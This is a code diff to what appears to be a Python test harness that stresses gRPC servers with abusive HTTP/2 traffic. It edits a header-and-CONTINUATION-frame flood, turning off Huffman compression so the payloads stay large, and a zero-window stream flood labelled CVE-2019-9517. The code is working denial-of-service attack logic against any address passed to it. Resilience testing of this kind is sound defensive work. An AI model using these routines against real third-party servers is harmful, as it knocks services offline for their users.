@@ -68,7 +68,8 @@ class Line:
                 ("te", "trailers"),
                 ("content-type", "application/grpc"),
                 *((name.replace("_", "-"), value) for name, value in more.items()),
-            ]
+            ],
+            huffman=False,
         )
 
     def close(self) -> None:
@@ -111,7 +112,7 @@ def huge_headers(address: str, rounds: int) -> None:
                 continue
             line.say(HeadersFrame(1, line.block()))
             for _ in range(50 * rounds):
-                more = Encoder().encode([("x-more", "x" * (_LARGEST_FRAME // 2))])
+                more = Encoder().encode([("x-more", "x" * (_LARGEST_FRAME // 2))], huffman=False)
                 if not line.say(ContinuationFrame(1, more)):
                     break
 
@@ -182,13 +183,12 @@ def oversized_messages(address: str, rounds: int) -> None:
 
 def unread_answers(address: str, rounds: int) -> None:
     """Calls whose answers the client leaves no room for (CVE-2019-9517)."""
-    empty = DataFrame(0, struct.pack(">BI", 0, 0))
     with _lines(address) as lines:
         for line in lines:
             window = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
             line.say(PREFACE, window)
             for stream in range(1, 2 * 50 * rounds, 2):
-                empty.stream_id = stream
+                empty = DataFrame(stream, struct.pack(">BI", 0, 0))
                 empty.flags.add(_END_STREAM)
                 if not line.say(line.call(stream), empty):
                     break
